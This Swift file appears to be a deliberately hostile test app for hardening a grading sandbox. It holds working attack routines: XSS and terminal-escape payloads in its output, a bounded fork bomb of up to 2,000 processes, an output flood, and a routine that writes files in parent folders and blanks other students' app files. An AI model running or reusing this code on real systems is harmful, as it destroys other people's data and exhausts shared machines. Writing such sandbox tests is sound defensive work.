import Foundation
import Glibc

/// Everything a grader must survive, done at every launch: markup in what it prints, a flood of
/// output, hundreds of processes, and writes outside its own folder.
enum Mischief {
    static func makeTrouble() {
        print("<script>alert('owned')</script></pre><img src=x onerror=alert(1)> ]]> \u{1B}[31mred\u{1B}[0m")
        startManyProcesses()
        writeOutside()
        // A flood: two mebibytes of output, more than the grader keeps.
        let line = String(repeating: "flood ", count: 170)
        for _ in 0..<2_000 { print(line) }
    }

    /// Starts sleepers until the system says no (a fork bomb that stops): the grader's process
    /// limit must stop it, and killing the app must take them all down.
    static func startManyProcesses() {
        var started = 0
        for _ in 0..<2_000 {
            var pid: pid_t = 0
            let argv: [UnsafeMutablePointer<CChar>?] = [strdup("/bin/sleep"), strdup("60"), nil]
            defer { argv.forEach { free($0) } }
            guard posix_spawn(&pid, "/bin/sleep", nil, nil, argv, nil) == 0 else { break }
            started += 1
        }
        print(started < 2_000 ? "the system refused more processes" : "started 2000 processes")
    }

    /// Walks up from the app's own path and tries to leave a file in every folder on the way, and
    /// to change the files of the folder that holds it (other students' apps and containers).
    static func writeOutside() {
        var folder = URL(fileURLWithPath: CommandLine.arguments[0]).deletingLastPathComponent()
        for _ in 0..<8 {
            folder = folder.deletingLastPathComponent()
            let planted = folder.appendingPathComponent("HOSTILE-WAS-HERE")
            // Silently: whether it worked shows in the grader's files, not in the grade.
            try? Data("pwned".utf8).write(to: planted)
            for name in (try? FileManager.default.contentsOfDirectory(atPath: folder.path)) ?? [] {
                let victim = folder.appendingPathComponent(name).appendingPathComponent("app")
                guard FileManager.default.fileExists(atPath: victim.path) else { continue }
                try? Data().write(to: victim)
            }
        }
    }
}
